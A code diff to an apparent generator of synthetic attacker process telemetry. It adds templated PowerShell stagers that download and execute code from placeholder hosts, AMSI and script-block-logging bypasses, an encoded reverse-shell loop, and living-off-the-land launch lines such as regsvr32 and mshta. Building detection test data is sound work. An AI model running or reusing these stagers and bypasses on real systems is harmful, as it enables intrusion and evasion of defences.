@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import random
 from typing import NamedTuple
 
@@ -56,6 +57,45 @@ WINDOWS_PARENTS = (
     Parent("C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe"),
     Parent("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WINWORD.EXE /n"),
     Parent("C:\\Program Files (x86)\\TeamViewer\\TeamViewer_Service.exe", "TeamViewer_Service.exe"),
+)
+
+_STAGERS = (
+    "IEX (New-Object Net.WebClient).DownloadString('http://{host}:{port}/{name}')",
+    "$w=New-Object Net.WebClient;$w.Proxy=[Net.WebRequest]::DefaultWebProxy;"
+    "$w.Proxy.Credentials=[Net.CredentialCache]::DefaultNetworkCredentials;IEX $w.DownloadString('https://{host}/{name}')",
+    "if($PSVersionTable.PSVersion.Major -ge 3){{$p=[Ref].Assembly.GetType('System.Management.Automation.Utils')."
+    "GetField('cachedGroupPolicySettings','NonPublic,Static');if($p){{$v=$p.GetValue($null);"
+    "$v['ScriptBlockLogging']['EnableScriptBlockLogging']=0}}}};$k=[Text.Encoding]::ASCII.GetBytes('{blob}');"
+    "$s='http://{host}:{port}';$d=(New-Object Net.WebClient).DownloadData($s+'/{name}.php')",
+    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static')."
+    "SetValue($null,$true);IEX((New-Object Net.WebClient).DownloadString('http://{host}:{port}/{name}'))",
+    "$a=[Reflection.Assembly]::Load([Convert]::FromBase64String('{blob}'));$a.EntryPoint.Invoke($null,@(,[string[]]@()))",
+    "$m=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{blob}'));IEX (New-Object IO.StreamReader("
+    "New-Object IO.Compression.GzipStream($m,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
+    "$c=New-Object Net.Sockets.TCPClient('{host}',{port});$n=$c.GetStream();[byte[]]$b=0..65535|%{{0}};"
+    "while(($i=$n.Read($b,0,$b.Length)) -ne 0){{$o=(iex ([Text.Encoding]::ASCII.GetString($b,0,$i)) 2>&1|Out-String)}}",
+)
+_CARRIERS = (
+    ("{folder}\\{name}.exe", "{folder}\\{name}.exe"),
+    ("{folder}\\{name}.exe", '"{folder}\\{name}.exe"'),
+    ("C:\\Users\\{user}\\Downloads\\{name}.exe", '"C:\\Users\\{user}\\Downloads\\{name}.exe"'),
+    ("C:\\Users\\{user}\\AppData\\Local\\Temp\\{name}.exe", "C:\\Users\\{user}\\AppData\\Local\\Temp\\{name}.exe"),
+    (f"{SYSTEM32}\\rundll32.exe", "rundll32.exe {folder}\\{name}.dll,Start"),
+    (f"{SYSTEM32}\\regsvr32.exe", "regsvr32 /s /n /u /i:http://{name}.example/{name}.sct scrobj.dll"),
+    (f"{SYSTEM32}\\mshta.exe", 'mshta "C:\\Users\\{user}\\Downloads\\{name}.hta"'),
+    (f"{SYSTEM32}\\wscript.exe", '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\{user}\\Downloads\\{name}.js"'),
+    (f"{SYSTEM32}\\cscript.exe", "cscript //nologo {folder}\\{name}.vbs"),
+    ("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe", "MSBuild.exe {folder}\\{name}.xml"),
+    (
+        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n '
+        '"C:\\Users\\{user}\\Downloads\\{name}.docm" /o ""',
+    ),
+    (f"{SYSTEM32}\\cmd.exe", 'C:\\Windows\\system32\\cmd.exe /c "{folder}\\{name}.bat"'),
+    (f"{SYSTEM32}\\cmd.exe", 'cmd.exe /c start /b "" {folder}\\{name}.exe'),
+    (f"{SYSTEM32}\\spoolsv.exe", "C:\\Windows\\System32\\spoolsv.exe"),
+    (f"{SYSTEM32}\\dllhost.exe", "C:\\Windows\\system32\\dllhost.exe"),
+    (f"{SYSTEM32}\\werfault.exe", "C:\\Windows\\System32\\WerFault.exe"),
 )
 
 LINUX_PARENTS = (
@@ -120,6 +160,29 @@ def draw_parent(rng: random.Random, scene: Scene, platform: str) -> Parent:
     if rng.random() < 0.4:
         return draw_shell_parent(rng, scene)
     return rng.choice(WINDOWS_PARENTS)
+
+
+def draw_agent(rng: random.Random, scene: Scene) -> Parent:
+    """What an attacker's commands run under: a stager, a payload that a user opened, a program taken over."""
+    if rng.random() < 0.5:
+        image = SHELLS["powershell"][rng.randrange(2)]
+        head = rng.choice((image, f'"{image}"', "powershell", "powershell.exe"))
+        options = rng.choice(
+            ("-noP -sta -w 1", "-nop -w hidden", "-NoP -NonI -W Hidden -Exec Bypass", "-nop -exec bypass")
+        )
+        script = rng.choice(_STAGERS).format(
+            name=draw_name(rng),
+            host=f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
+            port=rng.choice((80, 443, 8080, 8443, rng.randrange(1024, 65536))),
+            blob=base64.b64encode(rng.randbytes(rng.randrange(60, 200))).decode(),
+        )
+        if rng.random() < 0.3:
+            return Parent(image, f'{head} {options} -c "{script}"')
+        encoded = base64.b64encode(script.encode("utf-16-le")).decode()
+        return Parent(image, f"{head} {options} {rng.choice(('-enc', '-e', '-EncodedCommand'))} {encoded}")
+    image, line = rng.choice(_CARRIERS)
+    places = {"folder": draw_folder(rng, scene).rstrip("\\"), "name": draw_name(rng), "user": scene.user}
+    return Parent(image.format(**places), line.format(**places))
 
 
 def draw_shell_parent(rng: random.Random, scene: Scene) -> Parent:
